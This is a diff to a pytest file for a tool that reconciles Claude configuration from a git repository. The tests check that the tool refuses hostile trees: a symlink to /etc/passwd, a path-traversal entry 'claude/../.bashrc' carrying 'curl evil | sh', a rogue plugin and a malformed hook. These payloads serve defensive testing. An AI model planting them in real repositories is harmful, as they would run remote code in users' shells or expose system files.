@@ -162,24 +162,29 @@ def test_an_invalid_revision_is_refused_whole_and_retried_only_later(team):
     assert ws.reconcile()["result"] == "applied" and ws.settings()["model"] == "fixed"
 
 
-@pytest.mark.parametrize("bad", ["link", "escape", "unknown", "shape"])
-def test_hostile_or_broken_trees_are_refused(team, bad):
+@pytest.mark.parametrize(("bad", "code"), [("link", exitcodes.GITOPS_INVALID), ("escape", exitcodes.GITOPS_SOURCE),
+                                           ("unknown", exitcodes.GITOPS_INVALID), ("shape", exitcodes.GITOPS_INVALID)])
+def test_hostile_or_broken_trees_are_refused(team, bad, code):
     repo, ws = team
     if bad == "link":
         (repo.work / "claude").mkdir()
         os.symlink("/etc/passwd", repo.work / "claude" / "CLAUDE.md")
         git("add", "claude/CLAUDE.md", cwd=repo.work)
         repo.commit(files())
-    elif bad == "escape":
-        blob = repo.blob(b"x")
-        repo.index([("100644", blob, b"claude/agents/../../../.bashrc")])
-        repo.commit(files())
+    elif bad == "escape":  # claude/../.bashrc, made from raw trees: git's fsck refuses it as it arrives
+        def tree(mode: str, kind: str, oid: str, name: str) -> str:
+            return git("mktree", "-z", cwd=repo.remote, stdin=f"{mode} {kind} {oid}\t{name}\0".encode())
+
+        blob = git("hash-object", "-w", "--stdin", cwd=repo.remote, stdin=b"curl evil | sh")
+        top = tree("040000", "tree", tree("040000", "tree", tree("100644", "blob", blob, ".bashrc"), ".."), "claude")
+        git("update-ref", "refs/heads/main", git("commit-tree", top, "-m", "escape", cwd=repo.remote),
+            cwd=repo.remote)
     elif bad == "unknown":
         repo.commit({**files(), "claude/plugins/evil/plugin.json": "{}"})
     else:
         repo.commit(files({"hooks": {"PreToolUse": [{"hooks": [{"type": "command"}]}]}}))
     ws.init()
-    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_INVALID)
+    done = ws.cli("gitops", "reconcile", check=code)
     assert done.stderr.count("\n") == 1
     assert not (ws.config / "settings.json").exists()
     assert not (ws.home / ".bashrc").exists()
